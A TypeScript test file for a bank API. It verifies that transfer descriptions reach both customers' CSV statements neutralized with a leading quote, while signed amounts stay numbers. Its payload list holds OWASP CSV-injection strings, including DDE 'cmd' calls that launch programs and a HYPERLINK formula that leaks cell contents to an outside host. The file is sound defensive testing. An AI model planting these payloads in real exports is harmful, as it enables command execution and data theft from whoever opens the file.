// A transfer lets one customer write a description into another customer's statement. Opened in a
// spreadsheet, a CSV cell that begins with = + - @ runs as a formula: the statement CSV neutralizes such
// text cells (OWASP: a leading single quote), and leaves its signed amounts numbers.
import { afterAll, beforeAll, expect, test } from 'vitest';
import { after, openAccount, serveBank, type TestBank } from '../testing/bankServer.js';

// OWASP's CSV-injection examples that a description may hold (it refuses control characters, so the
// tab and carriage-return ones are covered by the unit tests of the CSV helper), and two that hide the
// formula behind a space or a quote.
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  ' =1+2',
  '"=1+2',
];

let bank: TestBank;
beforeAll(async () => {
  bank = await serveBank({ BANK_FRAUD_VELOCITY_MAX: '100' });
});
afterAll(() => bank.close());

/** RFC 4180, as a spreadsheet reads the file: rows of cells, quotes removed. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text.charAt(i);
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

test("customer A's transfer descriptions reach B's CSV statement neutralized; amounts stay numbers", async () => {
  const { call } = bank;
  const alice = await openAccount(call, { customerId: 'alice', initialDeposit: '1000' }, 'alice');
  const bob = await openAccount(call, { customerId: 'bob' }, 'bob');
  let position = 0;
  for (const description of PAYLOADS) {
    const sent = await call('POST', '/transfers', {
      as: 'alice',
      json: { fromAccountId: alice.accountId, toAccountId: bob.accountId, amount: '1.50', description },
    });
    expect(sent.status, sent.text).toBe(201);
    position = sent.body.position as number;
  }
  const month = new Date().toISOString().slice(0, 7);
  const statementOf = async (accountId: string, as: 'alice' | 'bob') => {
    const answer = await call('GET', `/accounts/${accountId}/statements/${month}`, {
      as,
      headers: { ...after(position), accept: 'text/csv' },
    });
    expect(answer.status, answer.text).toBe(200);
    const [header, ...rows] = parseCsv(answer.text);
    expect(header).toEqual(['occurredAt', 'kind', 'description', 'amount', 'balanceAfter', 'transactionId']);
    return rows.map(([, kind, description, amount, balanceAfter]) => ({
      kind,
      description,
      amount,
      balanceAfter,
    }));
  };

  const received = await statementOf(bob.accountId, 'bob');
  expect(received.map((r) => r.description)).toEqual(PAYLOADS.map((payload) => `'${payload}`));
  expect(received.map((r) => r.amount)).toEqual(PAYLOADS.map(() => '1.50'));

  // The sender's statement too; its amounts are negative, and stay plain numbers.
  const sent = (await statementOf(alice.accountId, 'alice')).filter((r) => r.kind === 'transfer_out');
  expect(sent.map((r) => r.description)).toEqual(PAYLOADS.map((payload) => `'${payload}`));
  expect(sent.map((r) => r.amount)).toEqual(PAYLOADS.map(() => '-1.50'));
  expect(sent.at(-1)?.balanceAfter).toBe('986.50');
});
